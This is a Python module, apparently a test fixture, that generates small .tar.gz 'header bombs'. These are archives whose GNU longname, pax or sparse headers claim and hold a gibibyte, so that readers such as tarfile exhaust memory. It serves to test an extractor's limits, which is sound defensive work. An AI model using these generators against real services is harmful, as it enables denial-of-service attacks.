"""Hostile archives: small ``.tar.gz`` files whose headers claim, and hold, a gibibyte.

The filler is one gzip member of 16 MiB (about 16 KiB compressed) repeated: gzip readers read
concatenated members as one stream, so a 1 GiB tar costs about 1 MiB of file and no time to
compress. Each kind puts the gibibyte where :mod:`tarfile` reads a header whole into memory:

- ``longname`` / ``longlink``: a GNU ``L`` / ``K`` header (the name or link target of the next
  member) that says it is ``claim`` bytes long;
- ``pax`` / ``global-pax``: a pax ``x`` / ``g`` header of ``claim`` bytes;
- ``sparse``: an old GNU sparse ``S`` member followed by ``claim`` bytes of extension blocks,
  each saying another one follows (21 sparse entries each, kept in a list).

After the gibibyte comes a small regular file and the end of the archive, so a reader with no
limits would in the end find a valid archive.
"""

from __future__ import annotations

import gzip
import io
import tarfile
from pathlib import Path

GIB = 1 << 30
_FILL = 16 << 20  # one gzip member of filler

KINDS = ("longname", "longlink", "pax", "global-pax", "sparse")
_TYPES = {
    "longname": tarfile.GNUTYPE_LONGNAME,
    "longlink": tarfile.GNUTYPE_LONGLINK,
    "pax": tarfile.XHDTYPE,
    "global-pax": tarfile.XGLTYPE,
}


def _checksummed(block: bytearray) -> bytes:
    """A tar header block with its checksum field filled in."""
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def _header(name: str, kind: bytes, size: int) -> bytearray:
    info = tarfile.TarInfo(name)
    info.type, info.size, info.mode = kind, size, 0o644
    return bytearray(info.tobuf(tarfile.GNU_FORMAT))


def _sparse_blocks() -> tuple[bytes, bytes, bytes]:
    """The ``S`` header (saying an extension block follows), one extension block full of
    sparse entries that says another follows, and a last one that says none does."""
    head = _header("lib/sparse.bin", tarfile.GNUTYPE_SPARSE, 0)
    head[482] = 1  # isextended
    ext = bytearray(512)
    for i in range(21):
        ext[i * 24 : i * 24 + 24] = b"%011o\0%011o\0" % (i + 1, 1)
    ext[504] = 1
    last = bytearray(512)
    return _checksummed(head), bytes(ext), bytes(last)


def _gz(data: bytes) -> bytes:
    return gzip.compress(data, compresslevel=9, mtime=0)


def header_bomb(path: Path, kind: str, claim: int = GIB) -> Path:
    """Write a ``.tar.gz`` whose ``kind`` header (see the module) holds ``claim`` bytes.

    ``claim`` must be a multiple of 16 MiB. Returns ``path``.
    """
    assert claim % _FILL == 0
    tail = io.BytesIO()
    with tarfile.open(fileobj=tail, mode="w", format=tarfile.GNU_FORMAT) as tar:
        info = tarfile.TarInfo("lib/after.txt")
        info.size = 5
        tar.addfile(info, io.BytesIO(b"after"))
    if kind == "sparse":
        head, ext, last = _sparse_blocks()
        fill = _gz(ext * (_FILL // 512))
        first = _gz(head)
        end = _gz(last + tail.getvalue())
    else:
        first = _gz(bytes(_checksummed(_header("././@LongLink", _TYPES[kind], claim))))
        fill = _gz(b"a" * _FILL)
        end = _gz(tail.getvalue())
    with path.open("wb") as f:
        f.write(first)
        for _ in range(claim // _FILL):
            f.write(fill)
        f.write(end)
    return path
